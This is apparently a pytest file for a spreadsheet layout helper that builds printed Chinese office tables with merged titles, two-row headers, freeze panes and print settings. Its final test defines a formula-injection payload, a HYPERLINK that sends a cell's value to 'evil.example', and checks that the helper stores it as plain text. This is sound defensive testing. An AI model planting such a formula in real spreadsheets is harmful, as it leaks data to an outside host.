"""The shared printed-table layout: title and headings merged as offices print them, frozen and repeated
headings, the page fitted to the paper, and text that stays text."""

from io import BytesIO

import openpyxl
from openpyxl.styles import Font

from luoshi.sheets.layout import (
    Group,
    column_widths,
    freeze_below,
    header_row,
    new_sheet,
    print_setup,
    style_range,
    subtitle_row,
    title_row,
    two_row_header,
    workbook_bytes,
)

EVIL = '=HYPERLINK("http://evil.example/"&D6,"x")'


def _reopen(book: openpyxl.Workbook) -> openpyxl.worksheet.worksheet.Worksheet:
    return openpyxl.load_workbook(BytesIO(workbook_bytes(book))).active


def _merged(ws: openpyxl.worksheet.worksheet.Worksheet) -> set[str]:
    return {str(r) for r in ws.merged_cells.ranges}


def test_title_and_subtitle_are_merged_across_the_table() -> None:
    book, ws = new_sheet("台账")
    title_row(ws, 1, "2026年重点项目推进情况表", 5, Font(name="黑体", size=16, bold=True), height=36)
    subtitle_row(ws, 2, "金额单位：万元", 5)
    ws = _reopen(book)
    assert _merged(ws) == {"A1:E1", "A2:E2"}
    assert ws["A1"].value == "2026年重点项目推进情况表" and ws["A1"].font.b and ws["A1"].font.sz == 16
    assert ws["A1"].alignment.horizontal == "center" and ws.row_dimensions[1].height == 36
    assert ws["A2"].alignment.horizontal == "right"


def test_a_one_column_title_is_not_merged() -> None:
    book, ws = new_sheet("差距分析")
    title_row(ws, 1, "对标", 1, Font(bold=True, size=14), alignment=None)
    ws = _reopen(book)
    assert _merged(ws) == set() and ws["A1"].font.b and ws["A1"].alignment.horizontal is None


def test_two_row_header_merges_plain_headings_down_and_a_group_across() -> None:
    book, ws = new_sheet("台账")
    width = two_row_header(ws, 3, ["序号", "项目名称", Group("2026年投资", ["年度计划", "完成"]), "预警"])
    ws = _reopen(book)
    assert width == 5
    assert _merged(ws) == {"A3:A4", "B3:B4", "C3:D3", "E3:E4"}
    assert [ws.cell(3, c).value for c in range(1, 6)] == ["序号", "项目名称", "2026年投资", None, "预警"]
    assert [ws["C4"].value, ws["D4"].value] == ["年度计划", "完成"]
    assert all(ws[name].border.left.style == "thin" for name in ("A3", "B3", "C3", "C4", "D4", "E3"))
    assert ws["C3"].font.b and ws["D4"].font.b and ws["C3"].alignment.horizontal == "center"


def test_header_row_is_written_at_a_row_or_appended() -> None:
    book, ws = new_sheet("表")
    assert header_row(ws, ["甲", "乙"], row=2) == 2
    ws.append([1, 2])
    assert header_row(ws, ["丙"], font=Font(bold=True), alignment=None, border=None) == 4
    ws = _reopen(book)
    assert ws["A2"].border.top.style == "thin" and ws["B2"].font.name == "黑体"
    assert ws["A4"].value == "丙" and ws["A4"].font.b and ws["A4"].border.top.style is None


def test_borders_cover_the_range_and_nothing_else() -> None:
    book, ws = new_sheet("表")
    style_range(ws, (2, 3), 2)
    ws = _reopen(book)
    assert {c.coordinate for row in ws.iter_rows() for c in row if c.border.left.style == "thin"} == {
        "A2",
        "B2",
        "A3",
        "B3",
    }


def test_freeze_pane_widths_and_print_setup() -> None:
    book, ws = new_sheet("一个很长很长很长很长很长很长很长很长很长很长很长很长很长很长的表名")
    two_row_header(ws, 3, ["序号", "名称", "单位"])
    freeze_below(ws, 4, columns=2)
    column_widths(ws, (6, 30), first=2)
    print_setup(ws, (3, 4), centered=True)
    ws = _reopen(book)
    assert len(ws.title) == 31
    assert ws.freeze_panes == "C5"
    assert ws.column_dimensions["B"].width == 6 and ws.column_dimensions["C"].width == 30
    assert ws.print_title_rows == "$3:$4"
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9
    assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_options.horizontalCentered


def test_portrait_without_a_paper_size() -> None:
    book, ws = new_sheet("表")
    header_row(ws, ["甲"], row=1)
    freeze_below(ws, 1)
    print_setup(ws, (1, 1), landscape=False, a4=False)
    ws = _reopen(book)
    assert ws.freeze_panes == "A2" and ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "portrait" and ws.page_setup.paperSize is None
    assert not ws.print_options.horizontalCentered


def test_text_stays_text_in_titles_and_headings() -> None:
    book, ws = new_sheet("表")
    title_row(ws, 1, EVIL, 3, Font(bold=True))
    subtitle_row(ws, 2, "-" + EVIL, 3)
    two_row_header(ws, 3, [EVIL, Group("+组", ["@甲", EVIL])])
    header_row(ws, [EVIL])
    ws = _reopen(book)
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert len(cells) == 7 and all(c.data_type == "s" for c in cells)
    assert [ws["A1"].value, ws["A3"].value, ws["C4"].value, ws["A5"].value] == [EVIL] * 4
    assert ws["A1"].quotePrefix and ws["A2"].quotePrefix and ws["B3"].quotePrefix and ws["B4"].quotePrefix
